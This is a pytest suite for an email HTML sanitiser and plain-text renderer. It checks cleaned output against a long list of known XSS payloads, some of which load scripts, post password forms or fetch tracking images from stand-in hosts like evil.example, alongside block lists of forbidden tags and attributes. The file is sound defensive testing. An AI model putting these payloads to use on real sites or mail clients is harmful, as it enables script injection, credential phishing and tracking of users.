"""The HTML allow-list against known XSS vectors, and the plain-text rendering.

Every sanitised output is re-parsed with the standard library's HTML parser and
walked tag by tag: the checker below is written from the security rules, not
from `bridge.mail.sanitize`, so a slip in the allow-list shows up here.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bridge.mail.sanitize import MAX_TAGS, html_to_text, is_safe_url, sanitize_html, url_scheme

FORBIDDEN_TAGS = {
    "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "form",
    "input", "button", "textarea", "select", "base", "meta", "link", "svg", "math", "img",
    "image", "picture", "source", "video", "audio", "track", "noscript", "template",
    "details", "marquee", "isindex", "xmp", "plaintext", "title", "head", "body", "html",
}  # fmt: skip
FORBIDDEN_ATTRIBUTES = {
    "style", "src", "srcset", "background", "formaction", "action", "data", "poster",
    "dynsrc", "lowsrc", "xlink:href", "class", "id", "target", "srcdoc", "content",
    "http-equiv", "codebase",
}  # fmt: skip
SAFE_SCHEMES = {"http", "https", "mailto"}
LINK_REL = "noopener noreferrer nofollow"


class OutputChecker(HTMLParser):
    """Walks sanitised HTML and records every rule it breaks."""

    def __init__(self) -> None:
        # Attribute values arrive entity-decoded from html.parser.
        super().__init__(convert_charrefs=True)
        self.violations: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in FORBIDDEN_TAGS:
            self.violations.append(f"element <{tag}>")
        names = [name for name, _ in attrs]
        for name, value in attrs:
            if name.startswith("on"):
                self.violations.append(f"event handler {name} on <{tag}>")
            if name in FORBIDDEN_ATTRIBUTES:
                self.violations.append(f"attribute {name} on <{tag}>")
            if name == "href" and not href_is_safe(value or ""):
                self.violations.append(f"href {value!r} on <{tag}>")
        if tag == "a" and dict(attrs).get("rel") != LINK_REL:
            self.violations.append(f"<a> without rel={LINK_REL!r}: {attrs!r}")
        if len(set(names)) != len(names):
            self.violations.append(f"duplicate attributes on <{tag}>: {names}")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_comment(self, data: str) -> None:
        # Conditional comments (`<!--[if IE]>`) are markup to some mail clients.
        self.violations.append(f"comment {data!r}")

    def unknown_decl(self, data: str) -> None:
        self.violations.append(f"declaration {data!r}")

    def handle_decl(self, decl: str) -> None:
        self.violations.append(f"declaration {decl!r}")

    def handle_pi(self, data: str) -> None:
        self.violations.append(f"processing instruction {data!r}")


def href_is_safe(href: str) -> bool:
    """The scheme a browser would see, after dropping whitespace and control characters."""
    compact = re.sub(r"[\x00-\x20\x7f]", "", href).lower()
    scheme, colon, _ = compact.partition(":")
    return bool(colon) and scheme in SAFE_SCHEMES


def violations(html: str) -> list[str]:
    checker = OutputChecker()
    checker.feed(html)
    checker.close()
    return checker.violations


def hrefs(html: str) -> list[str]:
    return re.findall(r'href="([^"]*)"', html)


# Known vectors: OWASP XSS filter evasion cheat sheet, html5sec.org, PortSwigger's
# cheat sheet, and the mutation-XSS families that bypassed other sanitisers.
XSS_VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>",
    "<script>document.write('<img src=x>')</script>after",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=javascript:alert('XSS')>",
    '<img src="http://tracker.example/p.gif" width="1" height="1">',
    '<img src="data:image/png;base64,iVBORw0KGgo=">',
    '<img srcset="http://tracker.example/a.png 1x">',
    '<picture><source srcset="http://tracker.example/a.webp"></picture>',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="&#106;avascript:alert(1)">click</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105'
    '&#0000112&#0000116&#0000058alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">tab</a>',
    '<a href="java&#x09;script:alert(1)">tab entity</a>',
    '<a href="java\nscript:alert(1)">newline</a>',
    '<a href="java&#x0A;script:alert(1)">newline entity</a>',
    '<a href=" \x01javascript:alert(1)">leading control</a>',
    '<a href="javascript&colon;alert(1)">named colon</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<a href="livescript:alert(1)">ls</a>',
    '<a href="/relative/delete-account">relative</a>',
    '<a href="//evil.example/">protocol-relative</a>',
    '<a href="https://ok.example/" target="_blank" rel="opener">target</a>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mtext></math>",
    '<math href="javascript:alert(1)">CLICK</math>',
    '<div style="width: expression(alert(1));">ie</div>',
    '<div style="background:url(http://tracker.example/x)">bg</div>',
    '<div style="background-image: url(javascript:alert(1))">bg</div>',
    '<style>@import "http://evil.example/x.css";</style>text',
    "<style>body{background:url(http://tracker.example/x)}</style>text",
    '<base href="javascript:alert(1)//">',
    '<base href="http://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>">fallback</iframe>',
    '<form action="http://evil.example/"><input name="pw" type="password"></form>',
    '<form><button formaction="javascript:alert(1)">go</button></form>',
    '<object data="javascript:alert(1)">fallback</object>',
    '<object type="text/x-scriptlet" data="http://evil.example/x.sct"></object>',
    '<embed src="http://evil.example/x.swf">',
    '<link rel="import" href="http://evil.example/x.html">',
    '<link rel="stylesheet" href="http://evil.example/x.css">',
    "<body onload=alert(1)>",
    '<table background="javascript:alert(1)"><tr><td>t</td></tr></table>',
    '<td background="http://tracker.example/x">cell</td>',
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>m</marquee>",
    '<video><source onerror="alert(1)"></video>',
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<!--<script>alert(1)</script>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    "<title><img src=x onerror=alert(1)></title>",
    '<a href="https://ok.example/" onclick="alert(1)" onmouseover=alert(2)>ok</a>',
    '<p class="x" id="y" lang="en" onclick=alert(1)>attrs</p>',
    '<a href="https://ok.example/"><img src="http://tracker.example/p.gif"></a>',
    '<img """><script>alert(1)</script>">',
    "<img src=x onerror=alert(1)//",
    '<a href="javascript:alert(1)"',
    "<div><p>unclosed <b>bold <i>italic",
    '<IMG SRC="jav&#x0D;ascript:alert(1);">',
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    '<LAYER SRC="http://xss.example/scriptlet.html"></LAYER>',
    "<isindex type=image src=1 onerror=alert(1)>",
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    '<applet code="x.class" codebase="http://evil.example/"></applet>',
    "<plaintext><script>alert(1)</script>",
    "<image src=x onerror=alert(1)>",
    '<a href="java\x00script:alert(1)">nul</a>',
    "\ufeff<script>alert(1)</script>",
    '<a href="\u2028javascript:alert(1)">line separator</a>',
]


def test_the_vector_list_is_substantial() -> None:
    assert len(XSS_VECTORS) >= 40
    assert len(set(XSS_VECTORS)) == len(XSS_VECTORS)


@pytest.mark.parametrize("vector", XSS_VECTORS)
def test_known_xss_vector_is_neutralised(vector: str) -> None:
    output = sanitize_html(vector)
    assert violations(output) == []
    for href in hrefs(output):
        assert "javascript:" not in re.sub(r"[\x00-\x20\x7f]", "", href).lower()
    assert "alert(1)</script>" not in output


@pytest.mark.parametrize("vector", XSS_VECTORS)
def test_known_xss_vector_inside_a_quoted_reply_is_neutralised(vector: str) -> None:
    output = sanitize_html(f"<div><p>Thanks!</p><blockquote>{vector}</blockquote></div>")
    assert violations(output) == []


def test_checker_catches_what_it_is_meant_to_catch() -> None:
    # A checker that never complains proves nothing.
    assert violations('<img src="x">')
    assert violations('<a href="java\tscript:x" rel="noopener noreferrer nofollow">')
    assert violations('<a href="/relative" rel="noopener noreferrer nofollow">')
    assert violations('<a href="https://x">')  # missing rel
    assert violations('<p onclick="x">')
    assert violations('<p style="color:red">')
    assert violations("<!-- c -->")
    assert violations('<a href="https://x" rel="noopener noreferrer nofollow">ok</a>') == []


def test_script_and_style_content_disappears_entirely() -> None:
    output = sanitize_html("<p>a</p><script>var secret = 1;</script><style>p{color:red}</style>b")
    assert "secret" not in output
    assert "color" not in output
    assert output == "<p>a</p>b"


FORMATTING_TAGS = [
    "p", "div", "span", "b", "strong", "i", "em", "u", "s", "blockquote", "pre", "code",
    "h1", "h2", "h3", "h4", "h5", "h6", "sub", "sup",
]  # fmt: skip


@pytest.mark.parametrize("tag", FORMATTING_TAGS)
def test_formatting_tags_are_kept(tag: str) -> None:
    assert sanitize_html(f"<{tag}>text</{tag}>") == f"<{tag}>text</{tag}>"


def test_lists_tables_breaks_and_rules_are_kept() -> None:
    html = (
        "<ul><li>a</li></ul><ol><li>b</li></ol><br><hr>"
        "<table><thead><tr><th>h</th></tr></thead><tbody><tr><td>c</td></tr></tbody></table>"
    )
    assert sanitize_html(html) == html


def test_safe_link_is_kept_with_rel_and_without_target() -> None:
    output = sanitize_html('<a href="https://example.org/x?a=1&amp;b=2" target="_blank">go</a>')
    assert output == (
        '<a href="https://example.org/x?a=1&amp;b=2" rel="noopener noreferrer nofollow">go</a>'
    )


@pytest.mark.parametrize(
    "href", ["http://example.org/", "https://example.org/", "mailto:someone@example.org"]
)
def test_allowed_schemes_survive(href: str) -> None:
    assert f'href="{href}"' in sanitize_html(f'<a href="{href}">x</a>')


def test_unsafe_link_keeps_its_text_but_loses_its_href() -> None:
    output = sanitize_html('<a href="javascript:alert(1)">read me</a>')
    assert "read me" in output
    assert "href" not in output


def test_class_id_and_style_are_dropped_but_text_direction_is_kept() -> None:
    output = sanitize_html('<p class="c" id="i" style="color:red" dir="rtl">مرحبا</p>')
    assert output == '<p dir="rtl">مرحبا</p>'
    assert sanitize_html('<p dir="sideways">x</p>') == "<p>x</p>"


def test_images_are_removed_even_from_trusted_looking_sources() -> None:
    for src in ["https://example.org/logo.png", "cid:logo@example", "data:image/png;base64,AA=="]:
        assert sanitize_html(f'<p>logo<img src="{src}" alt="Logo"></p>') == "<p>logo</p>"


def test_lone_surrogates_from_surrogateescape_decoding_do_not_crash() -> None:
    assert sanitize_html("<p>caf\udce9</p>") == "<p>caf\ufffd</p>"
    assert html_to_text("<p>caf\udce9</p>") == "caf\ufffd"


def test_markup_with_too_many_tags_becomes_plain_escaped_text() -> None:
    # Deep nesting makes html5ever quadratic; past the limit only the words remain.
    html = "<div>" * (MAX_TAGS + 1) + "<b>hello</b> &amp; <img src=x onerror=alert(1)>bye"
    output = sanitize_html(html)
    assert output == "hello &amp; bye"
    assert violations(output) == []
    assert html_to_text(html) == "hello & bye"


def test_markup_at_the_tag_limit_keeps_its_formatting() -> None:
    html = "<b>x</b>" * MAX_TAGS
    assert sanitize_html(html) == html
    assert html_to_text(html) == "x" * MAX_TAGS


def test_unclosed_attribute_soup_is_handled_without_the_stdlib_parser_seeing_it() -> None:
    # Raw, this makes Python 3.11's html.parser quadratic; normalised first, it is not.
    assert html_to_text("<p>before</p>" + "<a x='" * 5_000) == "before"


def test_text_is_escaped_not_interpreted() -> None:
    assert sanitize_html("1 < 2 & 3 > 2") == "1 &lt; 2 &amp; 3 &gt; 2"


@pytest.mark.parametrize(
    ("url", "scheme"),
    [
        ("https://x", "https"),
        (" JaVa\tScRiPt:alert(1)", "javascript"),
        ("mailto:a@b", "mailto"),
        ("/relative", None),
        ("no-scheme", None),
        ("1http://x", None),
        (":nothing", None),
    ],
)
def test_url_scheme_reads_urls_like_a_browser(url: str, scheme: str | None) -> None:
    assert url_scheme(url) == scheme
    assert is_safe_url(url) == (scheme in SAFE_SCHEMES)


# -- properties --------------------------------------------------------------------

HTML_TEMPLATES = [
    "{}",
    "<p>{}</p>",
    '<a href="{}">x</a>',
    "<a href={}>x</a>",
    '<a href="https://example.org/" title="{}">x</a>',
    '<p title="{}">x</p>',
    "<{}>x</{}>",
    '<img src="{}">',
    "<div {}>x</div>",
    '<div style="{}">x</div>',
    "<script>{}</script>",
    "<style>{}</style>",
    "<!--{}-->",
    "<svg>{}</svg>",
    "<noscript>{}</noscript>",
    "<table><tr><td>{}</td></tr></table>",
    '<a href="javascript:{}">x</a>',
]

MARKUP_PIECES = st.sampled_from(
    [
        "<", ">", "</", "/>", '"', "'", "=", " ", "\t", "\n", "&", "&#", ";", "x", ":",
        "script", "style", "img", "a", "svg", "math", "iframe", "p", "noscript", "template",
        "href", "src", "onerror", "onload", "style", "javascript", "data", "alert(1)",
        "<!--", "-->", "<![CDATA[", "]]>", "&#106;", "&#x09;", "java\tscript:", "http:",
    ]
)  # fmt: skip


@given(st.text())
def test_arbitrary_text_produces_clean_output(text: str) -> None:
    assert violations(sanitize_html(text)) == []


@given(st.sampled_from(HTML_TEMPLATES), st.text())
def test_arbitrary_text_embedded_in_html_produces_clean_output(template: str, text: str) -> None:
    assert violations(sanitize_html(template.replace("{}", text))) == []


@given(st.lists(MARKUP_PIECES | st.text(max_size=3), max_size=40))
def test_random_markup_soup_produces_clean_output(pieces: list[str]) -> None:
    assert violations(sanitize_html("".join(pieces))) == []


@given(st.text())
def test_html_to_text_accepts_anything(text: str) -> None:
    assert isinstance(html_to_text(text), str)


@given(st.lists(MARKUP_PIECES | st.text(max_size=3), max_size=40))
def test_html_to_text_accepts_any_markup_soup(pieces: list[str]) -> None:
    assert isinstance(html_to_text("".join(pieces)), str)


# -- html_to_text ------------------------------------------------------------------


def test_paragraphs_are_separated_by_a_blank_line_and_whitespace_collapses() -> None:
    html = "<p>Hello   <b>there</b>,\n   how are\tyou?</p><p>Second</p>"
    assert html_to_text(html) == "Hello there, how are you?\n\nSecond"


def test_divs_and_breaks_start_new_lines() -> None:
    assert html_to_text("<div>one</div><div>two<br>three<br><br>four</div>") == (
        "one\ntwo\nthree\n\nfour"
    )


def test_list_items_get_dashes_or_numbers_and_nested_lists_are_indented() -> None:
    html = "<p>Agenda:</p><ul><li>intake</li><li>billing<ol><li>copay</li></ol></li></ul>"
    assert html_to_text(html) == "Agenda:\n\n- intake\n- billing\n  1. copay"


def test_list_items_without_end_tags() -> None:
    assert html_to_text("<ul><li>a<li>b</ul>") == "- a\n- b"


def test_blockquote_lines_are_prefixed() -> None:
    html = "<p>Yes, Tuesday works.</p><blockquote><p>Can we meet?</p><p>Best, D</p></blockquote>"
    assert html_to_text(html) == "Yes, Tuesday works.\n\n> Can we meet?\n>\n> Best, D"


def test_nested_blockquotes_are_prefixed_twice() -> None:
    assert "> > inner" in html_to_text(
        "<blockquote>outer<blockquote>inner</blockquote></blockquote>"
    )


def test_entities_are_decoded() -> None:
    assert html_to_text("<p>Fish &amp; chips &lt;3 &eacute;&#233;&#xE9; &euro;</p>") == (
        "Fish & chips <3 ééé €"
    )


def test_links_show_their_url_only_when_the_text_differs() -> None:
    html = (
        '<p><a href="https://portal.example/t/1">your portal</a> '
        '<a href="https://portal.example/">https://portal.example/</a> '
        '<a href="mailto:desk@example.org">desk@example.org</a></p>'
    )
    assert html_to_text(html) == (
        "your portal (https://portal.example/t/1) https://portal.example/ desk@example.org"
    )


def test_unsafe_link_shows_only_its_text() -> None:
    assert html_to_text('<a href="javascript:alert(1)">click</a>') == "click"


def test_link_without_text_shows_its_url() -> None:
    assert html_to_text('<a href="https://example.org/x"><img src="logo.png"></a>') == (
        "https://example.org/x"
    )


def test_script_style_head_and_title_content_is_dropped() -> None:
    html = (
        "<html><head><title>Subject line</title><style>p{color:red}</style>"
        "<meta charset=utf-8></head><body><script>var x = 1;</script><p>Body</p></body></html>"
    )
    assert html_to_text(html) == "Body"


def test_head_without_end_tag_ends_at_the_first_body_element() -> None:
    assert html_to_text("<head><title>T</title><p>Visible") == "Visible"


def test_pre_is_preserved() -> None:
    html = "<p>Log:</p><pre>\n  line one\n    indented  two\n</pre><p>after</p>"
    assert html_to_text(html) == "Log:\n\n  line one\n    indented  two\n\nafter"


def test_table_cells_are_separated_and_rows_are_lines() -> None:
    html = "<table><tr><th>Day</th><th>Time</th></tr><tr><td>Mon</td><td>10:00</td></tr></table>"
    assert html_to_text(html) == "Day | Time\nMon | 10:00"


def test_nested_tables_do_not_crash_and_keep_their_text() -> None:
    inner = "<table><tr><td>deep</td></tr></table>"
    html = inner
    for _ in range(30):
        html = f"<table><tr><td>x</td><td>{html}</td></tr></table>"
    text = html_to_text(html)
    assert "deep" in text
    assert text.count("x") == 30


def test_unclosed_and_stray_tags_do_not_crash() -> None:
    assert html_to_text("</p></div></blockquote></ul><p>ok<b>bold") == "okbold"


@pytest.mark.parametrize(
    "text",
    [
        "Καλημέρα, τα λέμε την Τρίτη.",
        "مرحبا، نراك يوم الثلاثاء.",
        "周二见。ありがとうございます。안녕하세요",
        "See you 👋🏽 🎉 — ok?",
        "Привет, до вторника.",
        "שלום, נתראה ביום שלישי.",
    ],
)
def test_non_latin_scripts_survive(text: str) -> None:
    assert html_to_text(f"<div dir='auto'><p>{text}</p></div>") == text
    assert text in sanitize_html(f"<p>{text}</p>")


def test_empty_and_whitespace_only_input_gives_empty_text() -> None:
    assert html_to_text("") == ""
    assert html_to_text("<p>&nbsp;</p><div> </div><br>") == ""


def test_outlook_msonormal_paragraphs_are_lines_not_paragraphs() -> None:
    html = "<p class=MsoNormal>Hi Anna,</p><p class=MsoNormal>see you Tuesday.</p><p>Best</p>"
    assert html_to_text(html) == "Hi Anna,\nsee you Tuesday.\n\nBest"


def test_borderless_blockquote_indents_instead_of_quoting() -> None:
    html = "<div>Plan:</div><blockquote style='margin:0 0 0 40px;border:none'>walk</blockquote>"
    assert html_to_text(html) == "Plan:\n\n    walk"


def test_ordered_lists_are_numbered_and_item_lines_hang_under_the_bullet() -> None:
    html = "<ul><li>first<br>second</li><li>next</li></ul><ol><li>a<br>b</li><li>c</li></ol>"
    assert html_to_text(html) == "- first\n  second\n- next\n\n1. a\n   b\n2. c"


def test_no_break_spaces_are_kept_and_only_ascii_white_space_collapses() -> None:
    assert html_to_text("<p>a&nbsp;&nbsp;b\u3000c \t\n d</p>") == "a  b\u3000c d"


def test_blank_line_between_two_quotes_belongs_to_neither() -> None:
    assert html_to_text("<blockquote>a</blockquote><blockquote>b</blockquote>") == "> a\n\n> b"


def test_quote_prefix_is_capped_for_deep_nesting() -> None:
    assert html_to_text("<blockquote>" * 50 + "deep") == "> " * 8 + "deep"


def test_history_containers_are_part_of_the_display_text() -> None:
    html = "<div>Thanks</div><div class='gmail_quote'>Desk wrote:<blockquote>old</blockquote></div>"
    assert html_to_text(html) == "Thanks\nDesk wrote:\n\n> old"


def test_a_lone_angle_bracket_is_text_and_a_tag_cut_off_at_the_end_is_dropped() -> None:
    html = "<p>x < y and a<b or c</p><p>cut off <a href='https://ex"
    assert html_to_text(html) == "x < y and a<b or c\n\ncut off"


def test_comments_conditional_comments_and_an_unterminated_comment_are_dropped() -> None:
    html = "<p>a</p><!--[if mso]><p>hidden</p><![endif]--><p>b</p><!-- open <p>c</p>"
    assert html_to_text(html) == "a\n\nb"
